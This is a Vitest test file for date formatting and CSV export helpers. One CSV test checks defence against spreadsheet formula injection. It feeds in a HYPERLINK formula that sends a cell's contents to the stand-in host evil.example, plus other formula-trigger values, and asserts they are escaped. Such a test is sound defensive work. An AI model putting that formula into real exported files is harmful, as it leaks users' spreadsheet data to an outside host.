import { describe, expect, it } from 'vitest';
import { formatDay } from '../../shared/domain/format';

describe('formatDay', () => {
  it('writes a calendar day as dd/mm/yyyy, from the text, whatever the time zone', () => {
    expect(formatDay('2026-11-20')).toBe('20/11/2026');
    expect(formatDay('2026-01-31 23:30:00')).toBe('31/01/2026');
    expect(formatDay('2026-01-31T00:10:00Z')).toBe('31/01/2026');
  });
  it('leaves empty values empty and anything else as it came', () => {
    expect(formatDay(false)).toBe('');
    expect(formatDay(null)).toBe('');
    expect(formatDay('')).toBe('');
    expect(formatDay('soon')).toBe('soon');
  });
});

describe('toCsv', () => {
  it('writes Spanish CSV with semicolons and decimal commas, English with commas and points, quoting what needs it', async () => {
    const { toCsv } = await import('../../src/custom/csv');
    const rows = [['Número', 'Importe', 'Nota'], ['F-1', 1234.5, 'dice "hola"; adiós'], ['F-2', -9, null]];
    expect(toCsv(rows, 'es')).toBe('\uFEFFNúmero;Importe;Nota\r\nF-1;1234,5;"dice ""hola""; adiós"\r\nF-2;-9;\r\n');
    expect(toCsv(rows, 'en')).toBe('\uFEFFNúmero,Importe,Nota\r\nF-1,1234.5,"dice ""hola""; adiós"\r\nF-2,-9,\r\n');
  });
  it('writes text a spreadsheet would run as a formula after a single quote, and negative amounts as numbers (issue 29)', async () => {
    const { toCsv } = await import('../../src/custom/csv');
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    const rows = [[hyperlink, '+1', '-x', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', -12.5, 'a=b', '']];
    const line = (csv: string) => csv.slice(1, -2); // one row: without the byte order mark and the final line break
    const en = line(toCsv(rows, 'en'));
    // The hyperlink holds a comma and quotes: quoted, quotes doubled, its '=' no longer first.
    expect(en).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",'+1,'-x,'@SUM(A1:A2),'\t=1+1,"'\r=1+1",-12.5,a=b,`);
    const es = line(toCsv(rows, 'es'));
    expect(es.split(';').slice(1, 4)).toEqual(["'+1", "'-x", "'@SUM(A1:A2)"]);
    // A negative amount is a number a spreadsheet sums, written as the language writes it.
    expect(es.split(';')[6]).toBe('-12,5');
    // No cell of either file starts with a formula character.
    for (const line of [en, es]) for (const cell of line.split(/[,;](?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});

describe('formatInstant', () => {
  it("writes Odoo's UTC datetimes in the reader's zone and language", async () => {
    const { formatInstant } = await import('../../shared/domain/format');
    expect(formatInstant('2026-11-23 21:53:00', 'es', 'Europe/Madrid')).toBe('23/11/2026, 22:53');
    expect(formatInstant('2026-11-23T21:53:00Z', 'en', 'UTC')).toBe('23/11/2026, 21:53');
    expect(formatInstant(false, 'es')).toBe('');
    expect(formatInstant('soon', 'es')).toBe('soon');
  });
});
